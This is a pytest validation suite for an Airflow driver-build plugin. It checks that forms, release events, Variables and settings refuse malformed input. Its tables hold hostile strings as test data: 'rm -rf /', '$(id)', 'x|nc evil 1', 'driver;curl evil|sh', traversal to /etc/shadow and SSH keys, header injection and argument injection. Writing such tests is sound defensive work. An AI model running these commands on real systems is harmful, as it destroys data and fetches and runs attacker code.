"""Every run input fed malformed, hostile and oversized values: each is refused, naming its field.

Three doors bring values into a run: the form (params, through ``config.run_config`` and the
``validate_inputs`` task), release events, and the discovery Variables
(``releases.variables.settings_from_values``);
installation settings are the fourth. The tables below feed each field the same families of bad values:
shell metacharacters, control characters and newlines, path traversal, unicode look-alikes, 10 kB
strings and wrong types. Every one must raise before anything else happens, with a message that names
the field (the Airflow-side proof that no pod starts is ``tests/e2e/test_security.py``).

The trigger's side (an update graph that is down or answers garbage) is at the end of this file.
"""

from __future__ import annotations

import math
import traceback
from typing import Any

import pytest
from test_releases import GraphServer, graph_doc
from test_trigger import FakeSupervisor, drive, make_trigger, serve
from test_trigger import server as server
from test_trigger import supervisor as supervisor

from precompiled_drivers import tasks
from precompiled_drivers.config import run_config
from precompiled_drivers.releases import variables
from precompiled_drivers.settings import Settings
from precompiled_drivers.validation import ValidationError

BIG = 10 * 1024

# Bad in any text field: (label, value).
HOSTILE_TEXT: list[tuple[str, Any]] = [
    ("semicolon", "4.18.3;rm -rf /"),
    ("command substitution", "$(id)"),
    ("backticks", "`id`"),
    ("pipe", "x|nc evil 1"),
    ("redirect", "x>/etc/passwd"),
    ("newline", "4.18.3\nINJECTED=1"),
    ("carriage return", "4.18.3\r"),
    ("tab", "4.18\t3"),
    ("nul byte", "4.18.3\x00"),
    ("path traversal", "../../etc/shadow"),
    ("cyrillic look-alike", "4.1\u0430.3"),
    ("fullwidth digits", "\uff14.18.3"),
    ("zero-width space", "4.18\u200b.3"),
    ("right-to-left override", "4.18.3\u202e"),
    ("10 kB", "4" * BIG),
    ("10 kB after a valid prefix", "570.158.01" + "a" * BIG),
    ("leading dash", "--upload-pack=touch /tmp/x"),
    ("wrong type: int", 4),
    ("wrong type: float", 4.18),
    ("wrong type: dict", {"version": "4.18.3"}),
    ("wrong type: bool", True),
]
# Bad for a list field as a whole (the field itself is named).
HOSTILE_LISTS: list[tuple[str, Any]] = [
    ("a string, not a list", "4.18.3"),
    ("a dict", {"0": "4.18.3"}),
    ("an int", 7),
    ("nested list", [["4.18.3"]]),
    ("1000 items", ["570.158.01"] * 1000),
    ("duplicates", ["570.158.01", "570.158.01"]),
]
HOSTILE_BOOLEANS: list[tuple[str, Any]] = [
    ("yes", "yes"),
    ("1", 1),
    ("0", 0),
    ("shell", "true;id"),
    ("newline", "true\n"),
    ("list", [True]),
    ("10 kB", "t" * BIG),
    ("look-alike", "tru\u0435"),
]
HOSTILE_MINUTES: list[tuple[str, Any]] = [
    ("string", "30"),
    ("bool", True),
    ("zero", 0),
    ("negative", -5),
    ("huge", 10**9),
    ("nan", math.nan),
    ("infinity", math.inf),
    ("list", [30]),
    ("shell", "30;id"),
]

TEXT_FIELDS = (
    "rollout_driver_version",
    "cuda_version",
    "repository",
    "image_name",
    "driver_repo_ref",
    "operator_version",
    "canary_pool",
)
LIST_FIELDS = ("ocp_versions", "arches", "driver_versions")
BOOL_FIELDS = ("include_cluster_release", "force_rebuild", "dry_run", "allow_driver_restart")


def form_cases() -> list[Any]:
    cases = []
    for field in TEXT_FIELDS:
        for label, value in HOSTILE_TEXT:
            cases.append(pytest.param(field, value, id=f"{field}-{label}"))
    for field in LIST_FIELDS:
        for label, value in HOSTILE_TEXT:
            cases.append(pytest.param(field, [value], id=f"{field}-item-{label}"))
        for label, value in HOSTILE_LISTS:
            cases.append(pytest.param(field, value, id=f"{field}-{label}"))
    for field in BOOL_FIELDS:
        for label, value in HOSTILE_BOOLEANS:
            cases.append(pytest.param(field, value, id=f"{field}-{label}"))
    for label, value in HOSTILE_MINUTES:
        cases.append(pytest.param("verify_timeout_minutes", value, id=f"verify_timeout_minutes-{label}"))
    return cases


FORM_CASES = form_cases()


def valid_params() -> dict[str, Any]:
    return {
        "ocp_versions": ["4.19.3"],
        "arches": ["x86_64"],
        "driver_versions": ["570.158.01"],
        "rollout_driver_version": "570.158.01",
        "cuda_version": "12.8.1",
        "repository": "quay.io/acme/nvidia",
        "image_name": "driver",
        "driver_repo_ref": "main",
        "operator_version": "v26.7.0",
        "include_cluster_release": True,
        "force_rebuild": False,
        "dry_run": False,
        "verify_timeout_minutes": 30,
    }


def assert_names(err: ValidationError | variables.SettingsError, field: str) -> None:
    """The error names the field (the reported field, and in the text a user reads)."""
    if isinstance(err, ValidationError):
        assert err.field == field or err.field.startswith(f"{field}["), (err.field, field)
    assert field in str(err), str(err)
    # The message shows the bad value escaped and cut: a 10 kB or multi-line value never floods a log.
    assert "\n" not in str(err) and len(str(err)) < 600, str(err)[:200]


def test_the_valid_baseline_passes() -> None:
    assert run_config(valid_params(), Settings()).rollout_driver_version == "570.158.01"


@pytest.mark.parametrize(("field", "value"), FORM_CASES)
def test_form_field_refused(field: str, value: Any) -> None:
    params = valid_params()
    params[field] = value
    if field == "driver_versions" and isinstance(value, list) and value and value[0] != "570.158.01":
        params["rollout_driver_version"] = ""  # so driver_versions itself is what fails
    with pytest.raises(ValidationError) as err:
        run_config(params, Settings())
    assert_names(err.value, field)


EVENT_CASES = (
    [
        pytest.param({"version": value, "arch": "x86_64"}, "event[0].version", id=f"version-{label}")
        for label, value in HOSTILE_TEXT
    ]
    + [
        pytest.param({"version": "4.19.3", "arch": value}, "event[0].arch", id=f"arch-{label}")
        for label, value in HOSTILE_TEXT
    ]
    + [
        pytest.param("4.19.3", "event[0]", id="not-a-mapping"),
        pytest.param(None, "event[0]", id="none"),
    ]
)


@pytest.mark.parametrize(("event", "field"), EVENT_CASES)
def test_release_event_refused(event: Any, field: str) -> None:
    with pytest.raises(ValidationError) as err:
        run_config(valid_params(), Settings(), [event])
    assert_names(err.value, field)


HOSTILE_VARIABLE_TEXT = [
    ("semicolon", "stable-4.18;id"),
    ("newline", "stable-4.18\nfast-4.19"),
    ("traversal", "../../etc"),
    ("look-alike", "st\u0430ble-4.18"),
    ("10 kB", "s" * BIG),
    ("nul", "stable-4.18\x00"),
]
VARIABLE_CASES = (
    [pytest.param(variables.VAR_CHANNELS, v, id=f"channels-{label}") for label, v in HOSTILE_VARIABLE_TEXT]
    + [
        pytest.param(variables.VAR_CHANNELS, v, id=f"channels-{label}")
        for label, v in [
            ("json of ints", "[1, 2]"),
            ("json object", '{"a": "stable-4.18"}'),
            ("broken json", '["stable-4.18"'),
            ("100 channels", ",".join(f"stable-4.{i}" for i in range(100))),
        ]
    ]
    + [pytest.param(variables.VAR_ARCHES, v, id=f"arches-{label}") for label, v in HOSTILE_VARIABLE_TEXT]
    + [
        pytest.param(variables.VAR_GRAPH_URL, v, id=f"graph_url-{label}")
        for label, v in [
            ("file scheme", "file:///etc/passwd"),
            ("javascript", "javascript:alert(1)"),
            ("no host", "https://"),
            ("newline", "https://api.openshift.com/graph\nHost: evil"),
            ("space", "https://api.openshift.com/graph x"),
            ("look-alike host", "https://api.\u043epenshift.com/graph"),
            ("10 kB", "https://example.com/" + "a" * BIG),
            ("shell", "https://example.com/$(id)"),
            ("credentials", "https://user:password@example.com/graph"),
        ]
    ]
    + [
        pytest.param(variables.VAR_CA_BUNDLE, v, id=f"ca_bundle-{label}")
        for label, v in [
            ("relative", "ca.pem"),
            ("traversal", "/etc/pki/../../root/.ssh/id_rsa"),
            ("newline", "/etc/pki/ca.pem\n/etc/shadow"),
            ("shell", "/etc/pki/$(id).pem"),
            ("look-alike", "/etc/pki/c\u0430.pem"),
            ("10 kB", "/" + "a" * BIG),
        ]
    ]
    + [
        pytest.param(variables.VAR_POLL_INTERVAL, v, id=f"poll_interval-{label}")
        for label, v in [
            ("word", "hourly"),
            ("nan", "nan"),
            ("infinity", "inf"),
            ("zero", "0"),
            ("negative", "-60"),
            ("shell", "60;id"),
            ("10 kB", "9" * BIG),
        ]
    ]
    + [
        pytest.param(variables.VAR_FIRST_SIGHT, v, id=f"first_sight-{label}")
        for label, v in [
            ("unknown", "everything"),
            ("shell", "latest;id"),
            ("look-alike", "l\u0430test"),
        ]
    ]
    + [
        pytest.param(variables.VAR_LOOKAHEAD, v, id=f"lookahead-{label}")
        for label, v in [
            ("word", "maybe"),
            ("shell", "true;id"),
            ("10 kB", "t" * BIG),
        ]
    ]
    + [
        pytest.param(variables.VAR_LOOKAHEAD_LIMIT, v, id=f"lookahead_limit-{label}")
        for label, v in [
            ("fraction", "2.5"),
            ("too many", "1000"),
            ("negative", "-1"),
            ("word", "three"),
            ("nan", "nan"),
        ]
    ]
)


@pytest.mark.parametrize(("variable", "value"), VARIABLE_CASES)
def test_discovery_variable_refused(variable: str, value: str) -> None:
    with pytest.raises(variables.SettingsError) as err:
        variables.settings_from_values({variable: value})
    assert_names(err.value, variable)


SETTINGS_CASES = [
    pytest.param(name, value, id=f"{name}-{label}")
    for name in ("NAMESPACE", "PUSH_SECRET", "CLI_IMAGE", "STAGING_REPOSITORY", "DRIVER_REPO_URL")
    for label, value in [
        ("shell", "x;id"),
        ("newline", "x\ny"),
        ("traversal", "../x"),
        ("look-alike", "n\u0430me"),
        ("10 kB", "x" * BIG),
    ]
] + [
    pytest.param("RETRY_DELAY_SECONDS", value, id=f"RETRY_DELAY_SECONDS-{label}")
    for label, value in [("word", "soon"), ("zero", "0"), ("huge", "99999999"), ("negative", "-1")]
]


@pytest.mark.parametrize(("name", "value"), SETTINGS_CASES)
def test_installation_setting_refused(name: str, value: str) -> None:
    with pytest.raises(ValidationError) as err:
        Settings.from_env({f"PRECOMPILED_DRIVERS_{name}": value}).validate()
    assert_names(err.value, f"PRECOMPILED_DRIVERS_{name}")


def test_the_task_refuses_before_planning(monkeypatch: pytest.MonkeyPatch) -> None:
    """``validate_inputs`` (the DAG's first task) fails for good on a hostile field or Variable:
    ``AirflowFailException`` (no retry), one line naming the field, the bad value and the expected
    form, and no chained validation traceback to bury it."""
    from airflow.sdk.exceptions import AirflowFailException

    monkeypatch.setenv("PRECOMPILED_DRIVERS_TARGET_REPOSITORY", "quay.io/acme/nvidia")
    monkeypatch.setattr(variables, "load_settings", lambda: variables.settings_from_values({}))
    params = valid_params()
    params["image_name"] = "driver;curl evil|sh"
    with pytest.raises(AirflowFailException) as err:
        tasks.validate_inputs(params)
    assert str(err.value) == (
        "input rejected, no pod was started: image_name: got 'driver;curl evil|sh' "
        "(contains shell metacharacter ';') — expected an image name of lowercase letters, digits and "
        "'-' like nvidia-gpu-driver (CRD pattern [a-zA-Z0-9-]+; image references must be lowercase)"
    )
    assert err.value.__cause__ is None and err.value.__suppress_context__
    shown = "".join(traceback.format_exception(err.value))
    ours = [line for line in shown.splitlines() if "plugins/precompiled_drivers" in line]
    assert len(ours) == 1 and "tasks.py" in ours[0], shown

    def hostile_variables() -> variables.DiscoverySettings:
        return variables.settings_from_values({variables.VAR_LOOKAHEAD_LIMIT: "3;id"})

    monkeypatch.setattr(variables, "load_settings", hostile_variables)
    with pytest.raises(AirflowFailException) as err:
        tasks.validate_inputs(valid_params())
    assert variables.VAR_LOOKAHEAD_LIMIT in str(err.value) and "'3;id'" in str(err.value)
    assert "\n" not in str(err.value) and err.value.__cause__ is None

    monkeypatch.setenv("PRECOMPILED_DRIVERS_RETRY_DELAY_SECONDS", "30;id")
    monkeypatch.setattr(variables, "load_settings", lambda: variables.settings_from_values({}))
    with pytest.raises(AirflowFailException, match="PRECOMPILED_DRIVERS_RETRY_DELAY_SECONDS"):
        tasks.validate_inputs(valid_params())


def test_case_count_is_at_least_a_hundred() -> None:
    """The closing note reports this count; keep the table honest about its size."""
    total = len(FORM_CASES) + len(EVENT_CASES) + len(VARIABLE_CASES) + len(SETTINGS_CASES)
    print(f"hostile input cases: {total}")
    assert total >= 100


# ---------------------------------------------------------------- the update graph, down or garbage


def test_graph_down_or_garbage_fires_nothing_and_keeps_polling(
    server: GraphServer, supervisor: FakeSupervisor
) -> None:
    """Connection refused, truncated JSON, wrong shapes and hostile version strings: no event, no crash;
    the next good answer is still read (the trigger kept going) and only its new release fires."""
    trigger = make_trigger(server)
    good_url = trigger.graph_url

    def down() -> None:
        # A port nothing listens on: the graph is down (connection refused).
        trigger.graph_url = "http://127.0.0.1:9/api/upgrades_info/v1/graph"

    def back_up() -> None:
        trigger.graph_url = good_url

    def garbage(body: bytes, ctype: str = "application/json") -> Any:
        return lambda: (back_up(), server.queue("stable-4.8", "amd64", 200, body, ctype=ctype))

    hostile_nodes = graph_doc(["4.8.2"])
    hostile_nodes["nodes"].append({"version": "4.8.9;rm -rf /", "payload": "x", "metadata": {}})
    hostile_nodes["nodes"].append({"version": "4.8.\u0661\u0660", "payload": "x", "metadata": {}})
    import json

    steps = [
        serve(server, ["4.8.2"]),  # first sight: baseline
        down,
        garbage(b'{"nodes": [{"version": "4.8.3"'),  # truncated JSON
        garbage(b'{"nodes": "4.8.3", "edges": 7}'),  # wrong shape
        garbage(b"[]"),
        garbage(b"\x00\xff" * 512, "application/octet-stream"),
        garbage(json.dumps(hostile_nodes).encode()),
        lambda: (back_up(), serve(server, ["4.8.2", "4.8.3"])()),
    ]
    trigger.graph_url = good_url
    got = drive(trigger, steps)
    assert got[:-1] == [[]] * (len(steps) - 1), got
    assert got[-1] == ["4.8.3/x86_64"]
    assert supervisor.state()["seen"] == {"x86_64": ["4.8.2", "4.8.3"]}
